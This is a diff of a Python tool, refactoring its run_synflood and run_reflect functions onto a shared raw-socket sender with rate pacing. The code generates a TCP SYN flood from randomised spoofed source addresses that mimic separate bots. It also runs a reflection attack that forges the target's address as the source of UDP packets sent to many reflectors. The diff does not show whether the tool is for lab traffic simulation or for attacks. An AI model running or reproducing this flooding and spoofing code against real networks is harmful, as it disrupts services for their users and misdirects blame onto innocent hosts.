@@ -27,6 +27,7 @@ from __future__ import annotations
 
 import argparse
 import ipaddress
+import itertools
 import logging
 import math
 import random
@@ -34,7 +35,7 @@ import socket
 import string
 import struct
 import time
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from pathlib import Path
 from typing import TYPE_CHECKING
@@ -1788,12 +1789,9 @@ def run_synflood(
     first, span = int(network.network_address) + 1, network.num_addresses - 2  # no network/broadcast address
     dst = target.packed
     sources: set[int] = set()
-    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    start = time.monotonic()
-    deadline = start + seconds
-    sent = 0
-    try:
-        while sent < count and time.monotonic() < deadline:
+
+    def packets() -> Iterator[tuple[bytes, str]]:
+        while True:
             address = first + rng.randrange(span)
             sources.add(address)
             per_source = random.Random(address)  # a bot keeps its TTL and window from SYN to SYN
@@ -1808,7 +1806,23 @@ def run_synflood(
                 per_source.choice(_SYN_WINDOWS),
                 rng.getrandbits(32),
             )
-            sock.sendto(packet, (host, 0))
+            yield packet, host
+
+    sent = send_paced(packets(), count, rate, seconds)
+    return {"sent": sent, "sources": len(sources)}
+
+
+def send_paced(packets: Iterator[tuple[bytes, str]], count: int, rate: float, seconds: float) -> int:
+    """Send up to `count` of the (IPv4 packet with its own header, destination) pairs through a raw socket at
+    `rate` per second for at most `seconds`; returns how many went out."""
+    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    start = time.monotonic()
+    deadline = start + seconds
+    sent = 0
+    try:
+        while sent < count and time.monotonic() < deadline:
+            packet, destination = next(packets)
+            sock.sendto(packet, (destination, 0))
             sent += 1
             # Paced in ~2 ms steps: finer sleeps cost more CPU than they buy in evenness.
             ahead = start + sent / rate - time.monotonic()
@@ -1816,7 +1830,7 @@ def run_synflood(
                 time.sleep(ahead)
     finally:
         sock.close()
-    return {"sent": sent, "sources": len(sources)}
+    return sent
 
 
 # ---------------------------------------------------------------------------------------------------------------
@@ -1861,12 +1875,9 @@ def run_reflect(
     reflectors = list(network.hosts())
     rng.shuffle(reflectors)
     src = target.packed
-    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    start = time.monotonic()
-    deadline = start + seconds
-    sent = 0
-    try:
-        while sent < count and time.monotonic() < deadline:
+
+    def packets() -> Iterator[tuple[bytes, str]]:
+        for sent in itertools.count():
             reflector = reflectors[sent % len(reflectors)]
             packet = udp_packet(
                 src,
@@ -1877,13 +1888,9 @@ def run_reflect(
                 64,
                 rng.getrandbits(16),
             )
-            sock.sendto(packet, (str(reflector), 0))
-            sent += 1
-            ahead = start + sent / rate - time.monotonic()  # paced as the SYN flooder is
-            if ahead > 0.002:
-                time.sleep(ahead)
-    finally:
-        sock.close()
+            yield packet, str(reflector)
+
+    sent = send_paced(packets(), count, rate, seconds)
     return {"sent": sent, "reflectors": min(sent, len(reflectors))}
 
 
